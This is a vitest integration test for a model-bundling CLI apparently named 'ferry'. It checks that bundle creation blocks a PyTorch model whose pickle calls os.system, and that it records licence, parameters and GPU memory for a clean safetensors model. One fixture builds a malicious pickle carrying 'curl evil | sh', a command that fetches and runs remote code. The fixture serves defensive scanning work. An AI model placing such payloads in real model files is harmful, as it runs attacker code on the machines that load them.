import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CustodyEvent } from '../../src/shared/api';
import { osSystemPickle } from '../fixtures/scan/pickle-builder';
import { buildSafetensors } from '../fixtures/scan/safetensors-builder';
import { torchZip } from '../fixtures/scan/zip-builder';
import { ferry } from '../harness/ferry-cli';
import { startHubServer } from '../harness/hub-server';
import { tempDir } from '../harness/temp';

// Scanning is part of bundle creation: a model that would run code when loaded blocks the bundle.
const tmp = tempDir('ferry-scanbundle-');
const dataDir = join(tmp.path, 'data');
let hub: Awaited<ReturnType<typeof startHubServer>>;

beforeAll(async () => {
  hub = await startHubServer({
    repos: {
      'acme/evil': { files: { 'config.json': Buffer.from('{}'), 'pytorch_model.bin': torchZip(osSystemPickle('curl evil | sh')) } },
      'acme/clean': {
        files: {
          'README.md': Buffer.from('---\nlicense: apache-2.0\n---\n# Clean\n'),
          'config.json': Buffer.from('{"num_hidden_layers":2,"num_key_value_heads":2,"head_dim":8,"max_position_embeddings":128}'),
          'model.safetensors': buildSafetensors([{ name: 'w', dtype: 'F16', shape: [64, 64] }]),
        },
      },
    },
  });
});
afterAll(async () => {
  await hub?.stop();
  tmp.cleanup();
});

const manifestOf = (dir: string) => JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));

describe('bundles are scanned as they are created', () => {
  it('marks a bundle holding a pickle that calls os.system as blocked, naming file and rule', async () => {
    const out = join(tmp.path, 'evil');
    const r = await ferry(['bundle', 'create', '--model', 'acme/evil', '--hub-url', hub.url, '--out', out, '--data-dir', dataDir, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const m = manifestOf(out);
    expect(m.scan.blocked).toBe(true);
    const finding = m.artifacts[0].scan.findings.find((f: { severity: string }) => f.severity === 'dangerous');
    expect(finding).toMatchObject({ file: 'pytorch_model.bin' });
    expect(finding.detail).toMatch(/system/);
    const log = (await ferry(['custody', 'log', '--data-dir', dataDir, '--json'])).json<CustodyEvent[]>();
    expect(log.find((e) => e.type === 'scanned')?.details).toMatchObject({ repo: 'acme/evil', blocked: true });
  });

  it('records licence, parameters and a GPU estimate for a clean safetensors model', async () => {
    const out = join(tmp.path, 'clean');
    const r = await ferry(['bundle', 'create', '--model', 'acme/clean', '--hub-url', hub.url, '--out', out, '--data-dir', dataDir, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const m = manifestOf(out);
    expect(m.scan.blocked).toBe(false);
    const scan = m.artifacts[0].scan;
    expect(scan.licence.id).toBe('apache-2.0');
    expect(scan.parameters.total).toBe(64 * 64);
    expect(scan.gpuMemory.weightsBytes).toBe(64 * 64 * 2);
    expect(scan.findings.filter((f: { severity: string }) => f.severity !== 'info')).toEqual([]);
  });
});
